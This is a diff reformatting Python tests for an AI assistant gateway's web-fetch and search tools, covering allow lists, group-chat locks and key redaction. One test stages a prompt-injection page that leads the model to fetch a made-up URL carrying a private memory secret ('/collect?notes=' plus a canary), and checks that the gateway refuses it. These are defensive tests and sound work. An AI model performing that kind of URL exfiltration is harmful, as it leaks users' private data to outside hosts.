@@ -36,27 +36,43 @@ async def api() -> AsyncIterator[FakeSearchServer]:
 
 
 async def web_gateway(make_gateway, llm, site, api, **web):
-    settings = {"allow_networks": ["127.0.0.1/32"], "backend": "searxng",
-                "search_url": api.base_url, **web}
+    settings = {
+        "allow_networks": ["127.0.0.1/32"],
+        "backend": "searxng",
+        "search_url": api.base_url,
+        **web,
+    }
     resolver = TableResolver({"pages.test": ["127.0.0.1"], "news.test": ["127.0.0.1"]})
-    gateway, channel = await make_gateway(llm, owner=OWNER, web=settings,
-                                          web_tools={"resolver": resolver})
+    gateway, channel = await make_gateway(
+        llm, owner=OWNER, web=settings, web_tools={"resolver": resolver}
+    )
     return gateway, channel
 
 
 def tool_results(request: dict) -> list[dict]:
-    return [block for message in request["messages"] if isinstance(message["content"], list)
-            for block in message["content"] if block.get("type") == "tool_result"]
+    return [
+        block
+        for message in request["messages"]
+        if isinstance(message["content"], list)
+        for block in message["content"]
+        if block.get("type") == "tool_result"
+    ]
 
 
 # -- URL extraction and matching -------------------------------------------------------------
 
 
 def test_urls_are_found_in_what_people_write() -> None:
-    text = ("see https://pages.test/a?x=1, and (http://news.test/b) or example.org/page. "
-            "Also [docs](https://pages.test/wiki/Foo_(bar)) mail me at bob@mail.test")
-    assert urls_in_text(text) == ["https://pages.test/a?x=1", "http://news.test/b",
-                                  "https://example.org/page", "https://pages.test/wiki/Foo_(bar)"]
+    text = (
+        "see https://pages.test/a?x=1, and (http://news.test/b) or example.org/page. "
+        "Also [docs](https://pages.test/wiki/Foo_(bar)) mail me at bob@mail.test"
+    )
+    assert urls_in_text(text) == [
+        "https://pages.test/a?x=1",
+        "http://news.test/b",
+        "https://example.org/page",
+        "https://pages.test/wiki/Foo_(bar)",
+    ]
 
 
 def test_matching_ignores_scheme_default_port_slash_and_fragment_only() -> None:
@@ -82,7 +98,8 @@ def test_only_the_persons_own_turns_count() -> None:
 
 
 async def test_private_chats_have_the_web_tools_and_groups_only_when_enabled(
-        anthropic_server, make_gateway, site, api, tmp_path) -> None:
+    anthropic_server, make_gateway, site, api, tmp_path
+) -> None:
     gateway, channel = await web_gateway(make_gateway, anthropic_server, site, api)
     await channel.inject("alice", "hi")
     await channel.inject("bob", "hi")  # another person's DM, private to them
@@ -94,13 +111,15 @@ async def test_private_chats_have_the_web_tools_and_groups_only_when_enabled(
     # The second lock: the tool itself refuses a group context.
     group = ToolContext(tmp_path, group_session_key("fakechat", "g1"), False)
     outcome = await gateway.parts.setup.private_tools.run(
-        "web_fetch", {"url": site.url("/article")}, group)
+        "web_fetch", {"url": site.url("/article")}, group
+    )
     assert outcome.is_error and "not enabled in group chats" in outcome.text
     assert "[web] groups = true" in outcome.text
 
 
 async def test_groups_get_the_tools_when_the_owner_enables_them(
-        anthropic_server, make_gateway, site, api) -> None:
+    anthropic_server, make_gateway, site, api
+) -> None:
     _, channel = await web_gateway(make_gateway, anthropic_server, site, api, groups=True)
     link = site.url("/article", host="pages.test")
     anthropic_server.reply_tool_call("web_fetch", {"url": link})
@@ -112,8 +131,9 @@ async def test_groups_get_the_tools_when_the_owner_enables_them(
     assert not result.get("is_error") and "sunny with a high of 24" in json.dumps(result)
 
 
-async def test_web_enabled_false_means_no_web_tools(anthropic_server, make_gateway, site,
-                                                    api) -> None:
+async def test_web_enabled_false_means_no_web_tools(
+    anthropic_server, make_gateway, site, api
+) -> None:
     gateway, _ = await web_gateway(make_gateway, anthropic_server, site, api, enabled=False)
     assert "web_fetch" not in gateway.parts.setup.private_tools
 
@@ -122,7 +142,8 @@ async def test_web_enabled_false_means_no_web_tools(anthropic_server, make_gatew
 
 
 async def test_the_model_fetches_a_link_the_person_sent_and_reads_it_as_untrusted(
-        anthropic_server, make_gateway, site, api) -> None:
+    anthropic_server, make_gateway, site, api
+) -> None:
     _, channel = await web_gateway(make_gateway, anthropic_server, site, api)
     link = site.url("/article", host="pages.test")
     same_page = site.url("/article#friday", host="PAGES.test")
@@ -139,14 +160,16 @@ async def test_the_model_fetches_a_link_the_person_sent_and_reads_it_as_untruste
 
 
 async def test_a_url_the_person_never_sent_is_refused_and_nothing_leaves(
-        anthropic_server, make_gateway, site, api, tmp_path) -> None:
+    anthropic_server, make_gateway, site, api, tmp_path
+) -> None:
     """The exfiltration attempt: private memory put into a URL the model made up."""
     gateway, channel = await web_gateway(make_gateway, anthropic_server, site, api)
     workspace = ensure_workspace(tmp_path / "workspaces", OWNER)
     (workspace / "MEMORY.md").write_text(f"# Memory\n- door code {CANARY}\n")
     anthropic_server.reply_tool_call("web_fetch", {"url": site.url("/injection")})
     anthropic_server.reply_tool_call(
-        "web_fetch", {"url": site.url(f"/collect?notes={CANARY}", host="pages.test")})
+        "web_fetch", {"url": site.url(f"/collect?notes={CANARY}", host="pages.test")}
+    )
     anthropic_server.reply_text("I won't do that.")
     await channel.inject("alice", f"summarise {site.url('/injection')}")
     await channel.wait_for(1)
@@ -161,7 +184,8 @@ async def test_a_url_the_person_never_sent_is_refused_and_nothing_leaves(
 
 
 async def test_search_results_may_be_fetched_and_are_remembered_per_conversation(
-        anthropic_server, make_gateway, site, api) -> None:
+    anthropic_server, make_gateway, site, api
+) -> None:
     _, channel = await web_gateway(make_gateway, anthropic_server, site, api)
     api.result_base = site.url("", host="pages.test")
     anthropic_server.reply_tool_call("web_search", {"query": "lisbon weather", "count": 2})
@@ -182,27 +206,33 @@ async def test_search_results_may_be_fetched_and_are_remembered_per_conversation
     assert api.queries == [("searxng", "lisbon weather")]
 
 
-async def test_allow_hosts_and_fetch_any_open_the_policy(anthropic_server, make_gateway, site,
-                                                         api) -> None:
-    gateway, _ = await web_gateway(make_gateway, anthropic_server, site, api,
-                                   allow_hosts=["*.test"])
+async def test_allow_hosts_and_fetch_any_open_the_policy(
+    anthropic_server, make_gateway, site, api
+) -> None:
+    gateway, _ = await web_gateway(
+        make_gateway, anthropic_server, site, api, allow_hosts=["*.test"]
+    )
     workspace = ensure_workspace(gateway.settings.workspaces_dir, OWNER)
     ctx = ToolContext(workspace, dm_session_key(OWNER), True)
     result = await gateway.parts.setup.private_tools.run(
-        "web_fetch", {"url": site.url("/plain", host="news.test")}, ctx)
+        "web_fetch", {"url": site.url("/plain", host="news.test")}, ctx
+    )
     assert not result.is_error and "just some plain text" in result.text
     refused = await gateway.parts.setup.private_tools.run(
-        "web_fetch", {"url": site.url("/plain")}, ctx)
+        "web_fetch", {"url": site.url("/plain")}, ctx
+    )
     assert refused.is_error  # 127.0.0.1 is not on the allow list
 
     gateway, _ = await web_gateway(make_gateway, anthropic_server, site, api, fetch="any")
     result = await gateway.parts.setup.private_tools.run(
-        "web_fetch", {"url": site.url("/plain")}, ctx)
+        "web_fetch", {"url": site.url("/plain")}, ctx
+    )
     assert not result.is_error
 
 
 async def test_heartbeat_prompts_do_not_count_as_the_persons_links(
-        anthropic_server, make_gateway, site, api) -> None:
+    anthropic_server, make_gateway, site, api
+) -> None:
     """A heartbeat's user turn comes from HEARTBEAT.md, which the model can write."""
     gateway, _ = await web_gateway(make_gateway, anthropic_server, site, api)
     workspace = ensure_workspace(gateway.settings.workspaces_dir, OWNER)
@@ -210,71 +240,95 @@ async def test_heartbeat_prompts_do_not_count_as_the_persons_links(
     session = await gateway.parts.sessions.get(workspace, key)
     link = site.url("/article")
     session.record(Message("user", f"check {link}"))
-    result = await gateway.parts.setup.private_tools.run("web_fetch", {"url": link},
-                                             ToolContext(workspace, key, True))
+    result = await gateway.parts.setup.private_tools.run(
+        "web_fetch", {"url": link}, ToolContext(workspace, key, True)
+    )
     assert result.is_error and "not sent by the person" in result.text
     dm = dm_session_key(OWNER)
     (await gateway.parts.sessions.get(workspace, dm)).record(Message("user", f"check {link}"))
-    result = await gateway.parts.setup.private_tools.run("web_fetch", {"url": link},
-                                             ToolContext(workspace, dm, True))
+    result = await gateway.parts.setup.private_tools.run(
+        "web_fetch", {"url": link}, ToolContext(workspace, dm, True)
+    )
     assert not result.is_error
 
 
-async def test_long_pages_are_read_in_parts_from_the_cache(anthropic_server, make_gateway, site,
-                                                           api) -> None:
-    gateway, _ = await web_gateway(make_gateway, anthropic_server, site, api, fetch="any",
-                                   fetch_max_chars=5_000)
-    ctx = ToolContext(ensure_workspace(gateway.settings.workspaces_dir, OWNER),
-                      dm_session_key(OWNER), True)
+async def test_long_pages_are_read_in_parts_from_the_cache(
+    anthropic_server, make_gateway, site, api
+) -> None:
+    gateway, _ = await web_gateway(
+        make_gateway, anthropic_server, site, api, fetch="any", fetch_max_chars=5_000
+    )
+    ctx = ToolContext(
+        ensure_workspace(gateway.settings.workspaces_dir, OWNER), dm_session_key(OWNER), True
+    )
     first = await gateway.parts.setup.private_tools.run(
-        "web_fetch", {"url": site.url("/long")}, ctx)
+        "web_fetch", {"url": site.url("/long")}, ctx
+    )
     assert "Showed characters 0-5,000 of" in first.text and "offset=5000" in first.text
     second = await gateway.parts.setup.private_tools.run(
-        "web_fetch", {"url": site.url("/long"), "offset": 5000, "max_chars": 1000}, ctx)
+        "web_fetch", {"url": site.url("/long"), "offset": 5000, "max_chars": 1000}, ctx
+    )
     assert "Showed characters 5,000-6,000 of" in second.text
     assert site.paths().count("/long") == 1  # the second part came from the cache
     past = await gateway.parts.setup.private_tools.run(
-        "web_fetch", {"url": site.url("/long"), "offset": 10_000_000}, ctx)
+        "web_fetch", {"url": site.url("/long"), "offset": 10_000_000}, ctx
+    )
     assert past.is_error and "past the end" in past.text
     for bad in ({"url": 5}, {"url": site.url("/long"), "max_chars": 10}, {"link": "x"}):
         outcome = await gateway.parts.setup.private_tools.run("web_fetch", bad, ctx)
         assert outcome.is_error and outcome.text.startswith("web_fetch:")
 
 
-async def test_refusals_reach_the_model_as_one_line(anthropic_server, make_gateway, site,
-                                                    api) -> None:
+async def test_refusals_reach_the_model_as_one_line(
+    anthropic_server, make_gateway, site, api
+) -> None:
     gateway, _ = await web_gateway(make_gateway, anthropic_server, site, api, fetch="any")
-    ctx = ToolContext(ensure_workspace(gateway.settings.workspaces_dir, OWNER),
-                      dm_session_key(OWNER), True)
-    for path, why in (("/binary", "image/png, not a web page"),
-                      ("/to-private", "which is refused: 10.0.0.1 is a private address"),
-                      ("/missing", "HTTP 404")):
+    ctx = ToolContext(
+        ensure_workspace(gateway.settings.workspaces_dir, OWNER), dm_session_key(OWNER), True
+    )
+    for path, why in (
+        ("/binary", "image/png, not a web page"),
+        ("/to-private", "which is refused: 10.0.0.1 is a private address"),
+        ("/missing", "HTTP 404"),
+    ):
         outcome = await gateway.parts.setup.private_tools.run(
-            "web_fetch", {"url": site.url(path)}, ctx)
+            "web_fetch", {"url": site.url(path)}, ctx
+        )
         assert outcome.is_error and why in outcome.text and "\n" not in outcome.text
     search = await gateway.parts.setup.private_tools.run("web_search", {"query": "  "}, ctx)
     assert search.is_error and "empty" in search.text
 
 
 async def test_search_without_a_usable_backend_names_the_setting(
-        anthropic_server, make_gateway, site, api, monkeypatch) -> None:
+    anthropic_server, make_gateway, site, api, monkeypatch
+) -> None:
     monkeypatch.delenv("TAVILY_API_KEY", raising=False)
     gateway, _ = await web_gateway(make_gateway, anthropic_server, site, api, backend="tavily")
-    ctx = ToolContext(ensure_workspace(gateway.settings.workspaces_dir, OWNER),
-                      dm_session_key(OWNER), True)
+    ctx = ToolContext(
+        ensure_workspace(gateway.settings.workspaces_dir, OWNER), dm_session_key(OWNER), True
+    )
     outcome = await gateway.parts.setup.private_tools.run("web_search", {"query": "x"}, ctx)
     assert outcome.is_error and "TAVILY_API_KEY" in outcome.text
 
 
 async def test_a_search_key_from_the_environment_is_masked_in_results(
-        anthropic_server, make_gateway, site, api, monkeypatch) -> None:
+    anthropic_server, make_gateway, site, api, monkeypatch
+) -> None:
     from tests.fakes.search_server import BRAVE_KEY
 
     monkeypatch.setenv("BRAVE_API_KEY", BRAVE_KEY)
-    gateway, _ = await web_gateway(make_gateway, anthropic_server, site, api, backend="brave",
-                                   search_url=f"{api.base_url}/res/v1/web/search")
-    ctx = ToolContext(ensure_workspace(gateway.settings.workspaces_dir, OWNER),
-                      dm_session_key(OWNER), True)
-    outcome = await gateway.parts.setup.private_tools.run("web_search",
-                                                    {"query": f"echo {BRAVE_KEY}"}, ctx)
+    gateway, _ = await web_gateway(
+        make_gateway,
+        anthropic_server,
+        site,
+        api,
+        backend="brave",
+        search_url=f"{api.base_url}/res/v1/web/search",
+    )
+    ctx = ToolContext(
+        ensure_workspace(gateway.settings.workspaces_dir, OWNER), dm_session_key(OWNER), True
+    )
+    outcome = await gateway.parts.setup.private_tools.run(
+        "web_search", {"query": f"echo {BRAVE_KEY}"}, ctx
+    )
     assert not outcome.is_error and BRAVE_KEY not in outcome.text and "[redacted]" in outcome.text
